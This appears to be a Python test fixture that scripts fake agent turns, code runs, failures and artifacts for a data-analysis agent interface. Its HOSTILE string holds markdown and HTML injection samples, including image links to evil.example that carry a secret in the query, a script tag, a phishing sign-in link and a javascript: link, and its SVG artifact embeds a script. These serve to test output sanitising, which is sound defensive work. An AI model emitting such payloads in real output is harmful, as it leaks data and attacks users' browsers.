"""Turns to play: what an agent might write, run and be refused."""

import json
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from typing import Literal, Protocol

from agent_core.errors import CallTimeout, ErrorKind, FileTooLarge
from agent_core.events import (
    AgentSaid,
    AgentThought,
    Artifact,
    ArtifactKind,
    CodeFinished,
    CodeStarted,
    ContractDenied,
    Event,
    FileRefused,
    PlannerRetried,
    SandboxClosed,
    SandboxOpened,
    TurnEnded,
)
from agent_core.session import Draft

CODE = """import pandas as pd
import plotly.express as px

df = pd.read_csv("inputs/penguins.csv")
means = df.groupby("species", as_index=False)["body_mass_g"].mean()
px.bar(means, x="species", y="body_mass_g", color="species", title="Mean body mass by species")
"""
ANSWER = """Gentoo penguins are the heaviest: **5,076 g** on average, against 3,701 g for Adelie.

| Species | Mean, g | Penguins |
| --- | ---: | ---: |
| Adelie | 3,701 | 151 |
| Chinstrap | 3,733 | 68 |
| Gentoo | 5,076 | 123 |

The difference would cost $5 to $10 in feed. Two penguins have no weight and were left out."""
HOSTILE = """Look ![pixel](http://evil.example/a.png?q=secret) here, and ![again][ref].

[ref]: http://evil.example/b.png

<img src="http://evil.example/c.png"> <script>document.title = "owned"</script>

[Sign in](https://evil.example/login) to go on, or [here](javascript:alert(1)). It costs $5 or $10.

:material/home: :red[danger] :tada:
"""


class Keeps(Protocol):
    """Keeps bytes by their hash."""

    def keep(self, data: bytes) -> str: ...

    def snapshot(self, after: int = 0) -> object: ...


def script(text: str, turn: str, store: Keeps) -> Iterator[Event | Draft]:
    """The steps of the turn that a message asks for."""
    asked = text.lower()
    if "hostile" in asked:
        return iter((AgentSaid(turn=turn, text=HOSTILE), ended(turn)))
    if "fail" in asked:
        return _failing(turn)
    if "short" in asked:
        return iter((AgentSaid(turn=turn, text=f"Answer to *{text}*: the mean is 42."), ended(turn)))
    return _answering(turn, store)


def _answering(turn: str, store: Keeps) -> Iterator[Event | Draft]:
    run = f"{turn}-run"
    yield _draft(turn, "Thinking")
    yield AgentThought(turn=turn, text="The question asks for a mean by group; a bar chart fits.")
    words = ["Let", "me", "compute", "the", "mean", "body", "mass", "for", "each", "species."]
    for count in range(1, len(words) + 1):
        yield _draft(turn, "Writing", text=" ".join(words[:count]))
    yield AgentSaid(turn=turn, text=" ".join(words))
    lines = CODE.splitlines(keepends=True)
    for count in range(1, len(lines) + 1):
        yield _draft(turn, "Writing code", code="".join(lines[:count]))
    yield _draft(turn, "Opening a sandbox", code=CODE)
    yield opened()
    yield CodeStarted(turn=turn, run=run, code=CODE, language="python", contract_version=1)
    for count in range(1, 7):
        output = "".join(f"read chunk {line}\n" for line in range(count))
        yield _draft(turn, "Running code", running=run, output=output)
    yield CodeFinished(
        turn=turn,
        run=run,
        exit_code=0,
        seconds=1.24,
        stdout="read 344 rows\n",
        artifacts=artifacts(store),
        sandbox="s1",
    )
    for count in range(1, len(ANSWER) + 1, 24):
        yield _draft(turn, "Writing", text=ANSWER[:count])
    yield AgentSaid(turn=turn, text=ANSWER)
    yield ended(turn)


def _failing(turn: str) -> Iterator[Event | Draft]:
    yield opened()
    yield from _run(turn, "a", "df['wieght'].mean()", "code_error", "KeyError: 'wieght'")
    yield AgentSaid(turn=turn, text="There is no such column. Let me try the whole file in one go.")
    yield from _run(turn, "b", "while True: pass", "timeout", str(CallTimeout(60, 60.2, state_kept=True)))
    yield ContractDenied(
        turn=turn,
        clause="network",
        error="network_denied",
        message="A network connection to 'example.org' was refused by the network clause of the contract.",
        version=1,
    )
    yield PlannerRetried(turn=turn, attempt=1, most=4, delay_seconds=2.0, error="rate_limited")
    yield SandboxClosed(sandbox="s1", reason="crashed", seconds=63.0)
    yield TurnEnded(
        turn=turn,
        outcome="failed",
        error="provider_unavailable",
        message="The model's endpoint did not answer after four attempts. Try again in a minute.",
        seconds=71.0,
    )


def _run(turn: str, run: str, code: str, error: ErrorKind, message: str) -> Iterator[Event]:
    yield CodeStarted(turn=turn, run=turn + run, code=code, language="python", contract_version=1)
    traceback = 'Traceback (most recent call last):\n  File "<cell>", line 1\n' + message
    yield CodeFinished(
        turn=turn, run=turn + run, exit_code=1, seconds=0.3, error=error, message=message, traceback=traceback
    )


def artifacts(store: Keeps) -> tuple[Artifact, ...]:
    """One of each kind."""
    csv = b"species,body_mass_g\nAdelie,3701\n" * 40
    return (
        _artifact(store, "Mean body mass by species", "chart", "application/vnd.plotly.v1+json", FIGURE),
        _artifact(store, "table", "table", "application/vnd.ringfence.table+json", TABLE, full=csv),
        _artifact(store, "drawing.svg", "image", "image/svg+xml", SVG),
        _artifact(store, "summary.txt", "text", "text/plain", b"344 penguins, 2 without a weight"),
        _artifact(store, "means.csv", "file", "text/csv", csv),
    )


def _artifact(
    store: Keeps, name: str, kind: ArtifactKind, media_type: str, data: bytes, *, full: bytes | None = None
) -> Artifact:
    return Artifact(
        id=name,
        name=name,
        kind=kind,
        media_type=media_type,
        size=len(data),
        sha256=store.keep(data),
        full_data=store.keep(full) if full else None,
        full_data_size=len(full) if full else None,
    )


def _draft(
    turn: str, status: str, *, text: str = "", code: str = "", output: str = "", running: str | None = None
) -> Draft:
    return Draft(turn, status, datetime.now(UTC), text=text, code=code, output=output, running=running)


def opened() -> SandboxOpened:
    return SandboxOpened(
        sandbox="s1", provider="local", contract_version=1, vcpus=1.0, memory_mib=1_024, rate_card="local"
    )


def ended(turn: str, outcome: Literal["done", "stopped"] = "done") -> TurnEnded:
    return TurnEnded(turn=turn, outcome=outcome, seconds=4.0, model="m", model_cost_usd=Decimal("0.01"))


def refused(name: str, limit_mib: int) -> FileRefused:
    return FileRefused(name=name, error="file_too_large", message=str(FileTooLarge(limit_mib, name)))


_SPECIES = ("Adelie", "Chinstrap", "Gentoo")
_MEANS = (3_701, 3_733, 5_076)
_COLOURS = ("#636efa", "#EF553B", "#00cc96")
FIGURE = json.dumps(
    {
        "data": [
            {"type": "bar", "name": name, "x": [name], "y": [mean], "marker": {"color": colour}}
            for name, mean, colour in zip(_SPECIES, _MEANS, _COLOURS, strict=True)
        ],
        "layout": {
            "title": {"text": "Mean body mass by species"},
            "xaxis": {"title": {"text": "species"}},
            "yaxis": {"title": {"text": "body_mass_g"}},
            "template": {"layout": {"paper_bgcolor": "white"}},
        },
    }
).encode()
TABLE = json.dumps(
    {
        "columns": [
            {"name": "species", "dtype": "str", "index": True},
            {"name": "body_mass_g", "dtype": "int64", "index": False},
            {"name": "penguins", "dtype": "int64", "index": False},
        ],
        "rows": [list(row) for row in zip(_SPECIES, _MEANS, (151, 68, 123), strict=True)],
        "total_rows": 3,
        "total_columns": 2,
    }
).encode()
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 60"><rect width="300" height="60" rx="8" '
    b'fill="#1f6f5c"/><script>parent.document.title="owned"</script></svg>'
)
